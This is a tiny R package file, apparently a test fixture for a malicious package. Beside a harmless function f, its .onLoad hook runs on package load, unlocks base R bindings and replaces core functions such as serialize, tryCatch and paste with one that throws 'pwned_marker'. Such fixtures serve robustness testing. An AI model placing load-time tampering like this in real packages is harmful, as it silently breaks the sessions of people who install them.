f <- function(x) x
.onLoad <- function(libname, pkgname) {
  evil <- function(...) stop("pwned_marker")
  for (name in c("serialize", "file.rename", "tryCatch", "paste", "vapply", "is.character", "sys.function", "inherits")) {
    for (where in list(baseenv())) {
      get("unlockBinding", baseenv())(name, where)
      assign(name, evil, envir = where)
    }
  }
}
